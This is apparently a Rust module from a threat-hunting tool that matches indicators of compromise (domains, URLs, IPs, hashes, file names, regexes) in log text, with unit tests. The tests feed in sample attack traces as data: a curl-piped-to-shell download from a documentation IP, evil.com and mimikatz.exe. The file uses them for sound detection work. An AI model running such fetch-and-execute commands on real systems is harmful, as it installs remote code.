//! Finding indicators in text (the rules per kind are in the [`super`] documentation).
//!
//! A [`Matcher`] is built once per sweep from the indicators and shared by the sweep's
//! threads. [`Matcher::scan`] looks at one field:
//! 1. one overlapping Aho-Corasick pass (ASCII case-insensitive) over the field finds
//!    every literal value (domains, URLs, e-mail, file names and paths, user agents,
//!    strings); each candidate then passes or fails its kind's boundary check, and user
//!    agents must match case exactly;
//! 2. IPv4 addresses, CIDR ranges and IPv6 addresses: the IP-looking tokens of the field
//!    (found from its dots and colons with `memchr`) are parsed and looked up by prefix
//!    (an address is a /32 or /128 range);
//! 3. MD5, SHA-1 and SHA-256: the runs of 32, 40 or 64 hex digits standing alone are
//!    looked up in a hash map;
//! 4. when there are regular expressions, one `RegexSet` runs over the field.
//!
//! Why IPs and hashes are not in the automaton: logs are full of digits and hex, and
//! thousands of IP and hash patterns keep an Aho-Corasick automaton deep in its trie on
//! such text, so it runs from a cache-missing 50 MB table at about 50 MB/s; without them it
//! stays near its start state and runs about ten times faster (measured with 10,000
//! patterns, see BENCHMARKS.md). Token lookups give the same matches as the boundary rules.
//!
//! Nothing here allocates per field except the caller's reusable `found` buffer.

use std::collections::HashMap;
use std::net::{Ipv4Addr, Ipv6Addr};

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use regex::bytes::{RegexSet, RegexSetBuilder};

use super::{Indicator, Kind};
use crate::error::{Error, Result};

/// One literal pattern of the Aho-Corasick automaton.
struct Pattern {
    indicator: u32,
    kind: Kind,
    /// The first and last byte of the pattern (for the word-boundary rule of strings).
    first: u8,
    last: u8,
    /// The exact bytes, for kinds whose case matters (user agents).
    exact: Option<Box<[u8]>>,
}

/// Address ranges by prefix length: for each length present, the masked network
/// addresses and the indicators they stand for.
struct Nets<T> {
    by_prefix: Vec<(u8, HashMap<T, Vec<u32>>)>,
}

impl<T: Copy + Eq + std::hash::Hash> Nets<T> {
    fn new() -> Self {
        Nets {
            by_prefix: Vec::new(),
        }
    }
    fn is_empty(&self) -> bool {
        self.by_prefix.is_empty()
    }
    fn insert(&mut self, prefix: u8, net: T, indicator: u32) {
        let slot = match self.by_prefix.iter().position(|(p, _)| *p == prefix) {
            Some(i) => i,
            None => {
                self.by_prefix.push((prefix, HashMap::new()));
                self.by_prefix.len() - 1
            }
        };
        self.by_prefix[slot]
            .1
            .entry(net)
            .or_default()
            .push(indicator);
    }
}

/// The compiled form of a set of indicators.
pub struct Matcher {
    count: usize,
    ac: Option<AhoCorasick>,
    patterns: Vec<Pattern>,
    v4: Nets<u32>,
    v6: Nets<u128>,
    /// Lower-case hex digits of MD5, SHA-1 and SHA-256 indicators.
    hashes: HashMap<Vec<u8>, Vec<u32>>,
    regex: Option<RegexSet>,
    regex_ids: Vec<u32>,
}

fn mask4(prefix: u8) -> u32 {
    if prefix == 0 {
        0
    } else {
        u32::MAX << (32 - prefix as u32)
    }
}

fn mask6(prefix: u8) -> u128 {
    if prefix == 0 {
        0
    } else {
        u128::MAX << (128 - prefix as u32)
    }
}

impl Matcher {
    /// Compiles `indicators`; hits are reported as indices into this slice.
    pub fn new(indicators: &[Indicator]) -> Result<Matcher> {
        let mut literals: Vec<Vec<u8>> = Vec::new();
        let mut patterns = Vec::new();
        let mut v4 = Nets::new();
        let mut v6 = Nets::new();
        let mut hashes: HashMap<Vec<u8>, Vec<u32>> = HashMap::new();
        let mut regexes = Vec::new();
        let mut regex_ids = Vec::new();
        let mut add = |bytes: Vec<u8>, i: u32, kind: Kind| {
            if bytes.is_empty() {
                return;
            }
            patterns.push(Pattern {
                indicator: i,
                kind,
                first: bytes[0],
                last: bytes[bytes.len() - 1],
                exact: (kind == Kind::UserAgent).then(|| bytes.clone().into_boxed_slice()),
            });
            literals.push(bytes);
        };
        for (i, ind) in indicators.iter().enumerate() {
            let i = i as u32;
            match ind.kind {
                Kind::Ipv4 => {
                    let a: Ipv4Addr = ind.value.parse().map_err(|_| bad(ind))?;
                    v4.insert(32, u32::from(a), i);
                }
                Kind::Md5 | Kind::Sha1 | Kind::Sha256 => {
                    hashes
                        .entry(ind.value.to_ascii_lowercase().into_bytes())
                        .or_default()
                        .push(i);
                }
                Kind::Ipv6 => {
                    let a: Ipv6Addr = ind.value.parse().map_err(|_| bad(ind))?;
                    v6.insert(128, u128::from(a), i);
                }
                Kind::Cidr => match ind.value.parse::<ipnet::IpNet>().map_err(|_| bad(ind))? {
                    ipnet::IpNet::V4(n) => v4.insert(n.prefix_len(), u32::from(n.network()), i),
                    ipnet::IpNet::V6(n) => v6.insert(n.prefix_len(), u128::from(n.network()), i),
                },
                Kind::Regex => {
                    regexes.push(ind.value.clone());
                    regex_ids.push(i);
                }
                kind => {
                    add(ind.value.as_bytes().to_vec(), i, kind);
                    // Raw JSON records escape backslashes and quotes: match that form too.
                    if ind.value.contains(['\\', '"']) {
                        let json = serde_json::to_string(&ind.value)?;
                        add(json.as_bytes()[1..json.len() - 1].to_vec(), i, kind);
                    }
                }
            }
        }
        let ac = if literals.is_empty() {
            None
        } else {
            Some(
                AhoCorasick::builder()
                    .ascii_case_insensitive(true)
                    .match_kind(MatchKind::Standard)
                    .kind(Some(AhoCorasickKind::DFA))
                    .build(&literals)
                    .or_else(|_| {
                        // Too many states for a full DFA: the NFA is slower but fits.
                        AhoCorasick::builder()
                            .ascii_case_insensitive(true)
                            .match_kind(MatchKind::Standard)
                            .build(&literals)
                    })
                    .map_err(|e| Error::Invalid(format!("indicator set: {e}")))?,
            )
        };
        let regex = if regexes.is_empty() {
            None
        } else {
            Some(
                RegexSetBuilder::new(&regexes)
                    .size_limit(64 << 20)
                    .build()
                    .map_err(|e| Error::Invalid(format!("regular expressions: {e}")))?,
            )
        };
        // Longest prefixes first, so the most specific range is reported first.
        v4.by_prefix.sort_by_key(|n| std::cmp::Reverse(n.0));
        v6.by_prefix.sort_by_key(|n| std::cmp::Reverse(n.0));
        Ok(Matcher {
            count: indicators.len(),
            ac,
            patterns,
            v4,
            v6,
            hashes,
            regex,
            regex_ids,
        })
    }

    /// How many indicators it looks for.
    pub fn len(&self) -> usize {
        self.count
    }

    pub fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// Appends to `found` the index of every indicator in `text` (an index may appear
    /// more than once).
    pub fn scan(&self, text: &[u8], found: &mut Vec<u32>) {
        if text.is_empty() {
            return;
        }
        // Most fields hold no literal at all: the plain search (which stops at the first
        // candidate) rules them out faster than the overlapping walk that lists them all.
        if let Some(ac) = self.ac.as_ref().filter(|ac| ac.is_match(text)) {
            for m in ac.find_overlapping_iter(text) {
                let p = &self.patterns[m.pattern().as_usize()];
                if bounded(p, text, m.start(), m.end()) {
                    found.push(p.indicator);
                }
            }
        }
        if !self.v4.is_empty() {
            for_each_ipv4(text, |a| {
                for (prefix, nets) in &self.v4.by_prefix {
                    if let Some(ids) = nets.get(&(a & mask4(*prefix))) {
                        found.extend_from_slice(ids);
                    }
                }
            });
        }
        if !self.v6.is_empty() {
            for_each_ipv6(text, |a| {
                for (prefix, nets) in &self.v6.by_prefix {
                    if let Some(ids) = nets.get(&(a & mask6(*prefix))) {
                        found.extend_from_slice(ids);
                    }
                }
            });
        }
        if !self.hashes.is_empty() {
            for_each_hex_token(text, |hex| {
                let mut lower = [0u8; 64];
                for (d, s) in lower.iter_mut().zip(hex) {
                    *d = s.to_ascii_lowercase();
                }
                if let Some(ids) = self.hashes.get(&lower[..hex.len()]) {
                    found.extend_from_slice(ids);
                }
            });
        }
        if let Some(set) = &self.regex {
            for i in set.matches(text).iter() {
                found.push(self.regex_ids[i]);
            }
        }
    }
}

fn bad(ind: &Indicator) -> Error {
    Error::Invalid(format!("'{}' is not a valid {}", ind.value, ind.kind))
}

fn is_label(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-' || b == b'_'
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Whether the candidate `text[s..e]` stands on its own, by its kind's rule.
fn bounded(p: &Pattern, text: &[u8], s: usize, e: usize) -> bool {
    let prev = s.checked_sub(1).map(|i| text[i]);
    let prev2 = s.checked_sub(2).map(|i| text[i]);
    let next = text.get(e).copied();
    let next2 = text.get(e + 1).copied();
    let has = |b: Option<u8>, f: fn(u8) -> bool| b.is_some_and(f);
    let digit = |b: u8| b.is_ascii_digit();
    let alnum = |b: u8| b.is_ascii_alphanumeric();
    // "x." followed by more of the same token (evil.com.au, 10.0.0.1.5, a.exe.log)
    let dot_then = |f: fn(u8) -> bool| next == Some(b'.') && has(next2, f);
    match p.kind {
        Kind::Ipv4 => {
            let dotted_before = prev == Some(b'.') && has(prev2, digit);
            !(has(prev, digit) || dotted_before || has(next, digit) || dot_then(digit))
        }
        Kind::Domain => !has(prev, is_label) && !has(next, is_label) && !dot_then(is_label),
        Kind::Email => {
            !has(prev, |b| is_label(b) || b"._%+".contains(&b))
                && !has(next, is_label)
                && !dot_then(is_label)
        }
        Kind::Md5 | Kind::Sha1 | Kind::Sha256 => !has(prev, alnum) && !has(next, alnum),
        Kind::Url => {
            !has(prev, alnum) && !has(next, |b| is_label(b) || b == b'%') && !dot_then(alnum)
        }
        Kind::FileName | Kind::FilePath => {
            !has(prev, |b| is_label(b) || b == b'.') && !has(next, is_label) && !dot_then(alnum)
        }
        Kind::UserAgent => p.exact.as_deref() == Some(&text[s..e]),
        Kind::String => {
            (!is_word(p.first) || !has(prev, is_word)) && (!is_word(p.last) || !has(next, is_word))
        }
        Kind::Ipv6 | Kind::Cidr | Kind::Regex => false,
    }
}

/// Calls `f` with every run of exactly 32, 40 or 64 hex digits that is not part of a
/// longer run of letters and digits.
///
/// Such a run spans at least 32 bytes, so it holds a byte at an offset that is a multiple
/// of 32. Only those bytes are probed; a run is grown around a probe only when it is a hex
/// digit, and the next probe starts after that run. Log text then costs about one check
/// per 32 bytes plus the short hex runs the probes land in, and no byte is grown over twice.
pub fn for_each_hex_token(text: &[u8], mut f: impl FnMut(&[u8])) {
    const STRIDE: usize = 32;
    let n = text.len();
    let hex = |i: usize| text[i].is_ascii_hexdigit();
    let mut p = 0;
    while p < n {
        if !hex(p) {
            p += STRIDE;
            continue;
        }
        let mut a = p;
        while a > 0 && hex(a - 1) {
            a -= 1;
        }
        let mut b = p + 1;
        while b < n && hex(b) {
            b += 1;
        }
        let alone = (a == 0 || !text[a - 1].is_ascii_alphanumeric())
            && (b == n || !text[b].is_ascii_alphanumeric());
        if alone && matches!(b - a, 32 | 40 | 64) {
            f(&text[a..b]);
        }
        // `text[b]` is not a hex digit, so a later run starts after it.
        p = (b / STRIDE + 1) * STRIDE;
    }
}

/// Calls `f` with every IPv4 address written in `text` as a dotted quad that is not part
/// of a longer run of digits and dots.
pub fn for_each_ipv4(text: &[u8], mut f: impl FnMut(u32)) {
    let ipc = |b: u8| b.is_ascii_digit() || b == b'.';
    let mut done = 0;
    for dot in memchr::memchr_iter(b'.', text) {
        if dot < done {
            continue;
        }
        let mut a = dot;
        while a > 0 && ipc(text[a - 1]) {
            a -= 1;
        }
        let mut b = dot + 1;
        while b < text.len() && ipc(text[b]) {
            b += 1;
        }
        done = b;
        let mut run = &text[a..b];
        while let [b'.', rest @ ..] = run {
            run = rest;
        }
        while let [rest @ .., b'.'] = run {
            run = rest;
        }
        if run.len() < 7 || run.len() > 15 {
            continue;
        }
        if let Some(addr) = std::str::from_utf8(run)
            .ok()
            .and_then(|s| s.parse::<Ipv4Addr>().ok())
        {
            f(u32::from(addr));
        }
    }
}

/// Calls `f` with every IPv6 address written in `text` (any valid textual form).
pub fn for_each_ipv6(text: &[u8], mut f: impl FnMut(u128)) {
    let ipc = |b: u8| b.is_ascii_hexdigit() || b == b':' || b == b'.';
    let mut done = 0;
    for colon in memchr::memchr_iter(b':', text) {
        if colon < done {
            continue;
        }
        let mut a = colon;
        while a > 0 && ipc(text[a - 1]) {
            a -= 1;
        }
        let mut b = colon + 1;
        while b < text.len() && ipc(text[b]) {
            b += 1;
        }
        done = b;
        let mut run = &text[a..b];
        while let [rest @ .., b'.'] = run {
            run = rest;
        }
        if run.len() < 2 || run.len() > 45 {
            continue;
        }
        let colons = run.iter().filter(|&&c| c == b':').count();
        let compressed = run.windows(2).any(|w| w == b"::");
        if !(compressed || colons == 7) {
            continue;
        }
        if let Some(addr) = std::str::from_utf8(run)
            .ok()
            .and_then(|s| s.parse::<Ipv6Addr>().ok())
        {
            f(u128::from(addr));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ioc::detect;

    /// The plain definition: every maximal run of letters and digits that is 32, 40 or
    /// 64 hex digits long.
    fn hex_tokens_naive(text: &[u8]) -> Vec<Vec<u8>> {
        text.split(|b| !b.is_ascii_alphanumeric())
            .filter(|r| matches!(r.len(), 32 | 40 | 64) && r.iter().all(u8::is_ascii_hexdigit))
            .map(|r| r.to_vec())
            .collect()
    }

    #[test]
    fn hex_token_probe_finds_what_the_plain_definition_finds() {
        // Runs of every length from 1 to 70 of hex, of hex with a letter g inside or
        // beside, at every offset mod 32, between separators and plain words.
        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let mut total = 0;
        for _ in 0..400 {
            let mut text = Vec::new();
            while text.len() < 600 {
                let len = (next() % 70 + 1) as usize;
                for _ in 0..len {
                    text.push(b"0123456789abcdefABCDEF"[(next() % 22) as usize]);
                }
                match next() % 5 {
                    0 => text.push(b'g'),
                    1 => text.extend_from_slice(b" user=alice "),
                    2 => text.push(b':'),
                    3 => text.extend_from_slice(&b"  "[..(next() % 3) as usize]),
                    _ => text.push(b'='),
                }
            }
            let mut got = Vec::new();
            for_each_hex_token(&text, |t| got.push(t.to_vec()));
            let want = hex_tokens_naive(&text);
            total += want.len();
            assert_eq!(got, want, "text {:?}", String::from_utf8_lossy(&text));
        }
        assert!(total > 100, "the generator made only {total} tokens");
    }

    fn hits(iocs: &[&str], text: &str) -> Vec<String> {
        let inds: Vec<Indicator> = iocs
            .iter()
            .map(|v| {
                crate::ioc::list::parse_text(v)
                    .indicators
                    .pop()
                    .map(|e| e.indicator)
                    .unwrap_or_else(|| detect(v).unwrap())
            })
            .collect();
        let m = Matcher::new(&inds).unwrap();
        let mut found = Vec::new();
        m.scan(text.as_bytes(), &mut found);
        found.sort_unstable();
        found.dedup();
        found
            .iter()
            .map(|&i| iocs[i as usize].to_string())
            .collect()
    }

    #[test]
    fn ipv4_respects_boundaries() {
        let ip = ["10.0.0.1"];
        assert_eq!(hits(&ip, "from 10.0.0.1 port 22"), ["10.0.0.1"]);
        assert_eq!(hits(&ip, "SRC=10.0.0.1,"), ["10.0.0.1"]);
        assert_eq!(hits(&ip, "ip 10.0.0.1."), ["10.0.0.1"]);
        assert!(hits(&ip, "from 10.0.0.10 port").is_empty());
        assert!(hits(&ip, "from 110.0.0.1 port").is_empty());
        assert!(hits(&ip, "oid 1.10.0.0.1").is_empty());
        assert!(hits(&ip, "v 10.0.0.1.5").is_empty());
    }

    #[test]
    fn domains_match_at_label_boundaries() {
        let d = ["evil.com"];
        for yes in [
            "evil.com",
            "GET http://EVIL.com/x",
            "a.b.evil.com:443",
            "mail bob@evil.com.",
            "\"evil.com\"",
        ] {
            assert_eq!(hits(&d, yes), ["evil.com"], "{yes}");
        }
        for no in [
            "notevil.com",
            "not-evil.com",
            "evil.com.au",
            "evil.community",
            "evil.co",
        ] {
            assert!(hits(&d, no).is_empty(), "{no}");
        }
    }

    #[test]
    fn hashes_urls_files_and_strings() {
        let md5 = "d41d8cd98f00b204e9800998ecf8427e";
        assert_eq!(hits(&[md5], &format!("MD5={},", md5.to_uppercase())), [md5]);
        assert!(hits(&[md5], &format!("{md5}00")).is_empty());
        let url = ["hxxp://198.51.100[.]7/x.sh"];
        assert_eq!(hits(&url, "curl -fsSL http://198.51.100.7/x.sh | sh"), url);
        assert_eq!(hits(&url, "http://198.51.100.7/x.sh?a=1"), url);
        assert!(hits(&url, "http://198.51.100.7/x.shell").is_empty());
        let f = ["mimikatz.exe"];
        assert_eq!(hits(&f, "C:\\Tools\\Mimikatz.EXE started"), f);
        assert!(hits(&f, "notmimikatz.exe").is_empty());
        assert!(hits(&f, "mimikatz.exe.log").is_empty());
        let p = ["C:\\Users\\alice\\x.json"];
        assert_eq!(
            hits(&p, r#"{"TargetFilename":"C:\\Users\\alice\\x.json"}"#),
            p
        );
        let s = ["string:svc-backup"];
        assert_eq!(hits(&s, "user svc-backup logged"), s);
        assert!(hits(&s, "user svc-backup2 logged").is_empty());
        let ua = ["gobuster/3.6"];
        assert_eq!(hits(&ua, "\"gobuster/3.6\""), ua);
        assert!(hits(&ua, "\"GOBUSTER/3.6\"").is_empty());
    }

    #[test]
    fn cidr_and_ipv6_by_parsed_address() {
        let c = ["192.0.2.0/24", "2001:db8:f860:4801::/64", "2001:db8::1"];
        assert_eq!(hits(&c, "rhost=192.0.2.179 user=x"), ["192.0.2.0/24"]);
        assert!(hits(&c, "rhost=192.0.3.1").is_empty());
        assert!(hits(&c, "1.192.0.2.179").is_empty());
        assert_eq!(
            hits(&c, "client 2001:DB8:F860:4801:0:0:0:9a -"),
            ["2001:db8:f860:4801::/64"]
        );
        assert_eq!(hits(&c, "[2001:0db8:0:0:0:0:0:1]:443"), ["2001:db8::1"]);
        assert!(hits(&c, "at 12:34:56 2001:db8::2").is_empty());
    }

    #[test]
    fn regexes_and_overlapping_literals() {
        let r = ["regex:/tmp/\\.[a-z]+\\.sh", "evil.com", "a.evil.com"];
        assert_eq!(hits(&r, "wrote /tmp/.x.sh from a.evil.com"), r);
    }
}
